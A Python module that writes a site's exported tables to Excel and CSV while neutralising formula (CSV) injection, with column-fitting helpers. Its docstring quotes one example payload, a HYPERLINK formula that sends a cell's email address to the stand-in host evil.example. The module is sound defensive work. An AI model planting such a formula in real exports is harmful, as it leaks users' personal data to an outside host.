"""Every table the site exports (registrations, statistics) is written through here, so
that what people typed stays text in the spreadsheet that opens it.

A name such as `=HYPERLINK("http://evil.example/?x="&F3,"클릭")` would otherwise run as a
formula in Excel and send a neighbouring cell's email address away. In a workbook each
text is stored with the string type; in a CSV, which has no types, a text that starts
like a formula is prefixed with an apostrophe, as OWASP's CSV-injection guidance says.
"""

import csv
import datetime
import io
import unicodedata
from collections.abc import Iterable, Sequence

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sheet_append(sheet, values: Sequence) -> None:
    """Append a row to an openpyxl worksheet; a text cell is a string, never a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl guesses "f" for a text that starts with "="


# Excel's column width counts the characters of its default font; a Hangul syllable, and
# a full-width character, takes about two. A time written yyyy-mm-dd hh:mm takes 16.
WIDEST_COLUMN = 40
TIME_WIDTH = 17


def _width(value) -> float:
    if isinstance(value, datetime.datetime):
        return TIME_WIDTH
    text = str(value) if value is not None else ""
    return sum(2 if unicodedata.east_asian_width(char) in ("W", "F") else 1 for char in text) + 2


def sheet_fit(sheet) -> None:
    """What makes a sheet readable as it opens: every column as wide as what it holds (no
    ####), the header row frozen and filterable."""
    for column in sheet.iter_cols():
        widest = max(_width(cell.value) for cell in column)
        sheet.column_dimensions[column[0].column_letter].width = min(widest, WIDEST_COLUMN)
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = sheet.dimensions


def csv_cell(value) -> str:
    """One CSV cell: empty for None, minutes for a time, a formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return str(value)


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """The rows as a CSV that Excel opens in Korean (UTF-8 with a byte-order mark)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")
